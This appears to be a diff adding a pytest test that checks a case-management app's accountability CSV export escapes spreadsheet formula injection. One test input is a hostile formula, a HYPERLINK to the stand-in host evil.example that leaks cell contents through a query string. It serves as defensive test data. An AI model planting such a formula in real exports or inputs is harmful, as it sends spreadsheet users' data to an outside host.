@@ -392,3 +392,17 @@ def test_the_dashboard_groups_at_risk_and_overdue_tasks(hall_x):
     with pytest.raises(Forbidden):
         h.hall.deadlines.dashboard(p["clerk"])
     assert Task  # the table is what the dashboard reads
+
+
+def test_the_accountability_csv_never_holds_a_formula(hall_x):
+    """Whatever an applicant or a clerk wrote, a spreadsheet shows it as text (OWASP: a cell
+    that begins with =, +, -, @, a tab or a carriage return gets a leading apostrophe)."""
+    h, p = hall_x
+    for reason in ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "+1", "-2", "\tx"):
+        case = h.hall.runtime.start(p["clerk"], "deadlines", {"immediate": False})
+        h.complete(p["clerk"], case.id, "review", {"decision": "reject", "reason": reason})
+    table = list(csv.reader(io.StringIO(h.hall.deadlines.accountability_csv(p["watch"]).lstrip("\ufeff"))))
+    reasons = sorted(row[-1] for row in table[1:])
+    assert reasons == sorted(["'" + r for r in ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)",
+                                                  "+1", "-2", "\tx")])
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in table for cell in row)
